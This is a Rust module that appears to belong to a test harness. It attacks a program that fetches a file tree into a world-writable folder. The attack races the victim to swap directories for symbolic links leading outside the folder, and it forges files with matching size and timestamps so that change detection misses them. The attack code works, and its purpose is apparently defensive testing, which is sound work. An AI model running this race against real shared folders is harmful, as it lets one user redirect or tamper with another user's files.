//! An attack by another user of the machine on a world-writable folder into which a victim fetches
//! a tree.

use std::fs;
use std::io;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::time::Duration;

use super::pace::{AttackCounts, End};
use crate::attacks::{DIRECTORIES, FILES, RouterAddresses};

/// Time for which a symbolic link replaces a directory.
const LINKED: Duration = Duration::from_millis(2);

/// Maximum number of attempts to forge a directory at the end, while the victim still makes it.
const TRIES_MAX: u64 = 100;

/// Replaces directories by symbolic links that lead out of the folder, and files by forged ones of
/// the same size and time.
pub(super) fn target(addresses: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
    let (mut links, mut forged) = (0, 0);
    for round in 0u64.. {
        for number in 0..DIRECTORIES {
            let directory = addresses.shared.join(number.to_string());
            if round.is_multiple_of(8) {
                forged += forge(&directory, &addresses.shared.join(format!("old{round}-{number}")));
                continue;
            }
            // The victim makes the missing directory again. A link replaces it during this fetch.
            let _ = fs::rename(&directory, addresses.shared.join(format!("old{round}-{number}")));
            let aside = addresses.shared.join("aside");
            while end.is_ahead() && fs::rename(&directory, &aside).is_err() {
                std::thread::yield_now();
            }
            links += u64::from(symlink(&addresses.outside, &directory).is_ok());
            end.sleep(LINKED);
            let _ = fs::remove_file(&directory);
            let _ = fs::rename(&aside, &directory);
        }
        if !end.is_ahead() {
            break;
        }
    }
    // The victim's last fetch has to detect the directories that are forged here.
    for number in 0..DIRECTORIES {
        let directory = addresses.shared.join(number.to_string());
        let is_forged = |try_number: &u64| {
            std::thread::sleep(LINKED * 10);
            forge(&directory, &addresses.shared.join(format!("last{number}-{try_number}"))) > 0
        };
        forged += u64::from((0..TRIES_MAX).any(|try_number| is_forged(&try_number)));
    }
    Ok(AttackCounts::from([("links", links), ("forged", forged)]))
}

/// Moves a directory to `aside` and replaces it by a directory of this user with files of the same
/// size and time. Returns the number of forged files.
fn forge(directory: &Path, aside: &Path) -> u64 {
    if fs::rename(directory, aside).and_then(|()| fs::create_dir(directory)).is_err() {
        return 0;
    }
    let like = |file: &str| -> io::Result<()> {
        let (found, forged) = (fs::symlink_metadata(aside.join(file))?, directory.join(file));
        fs::write(&forged, vec![b'F'; found.len() as usize])?;
        fs::File::options().write(true).open(&forged)?.set_modified(found.modified()?)
    };
    FILES.iter().filter(|(file, _)| like(file).is_ok()).count() as u64
}
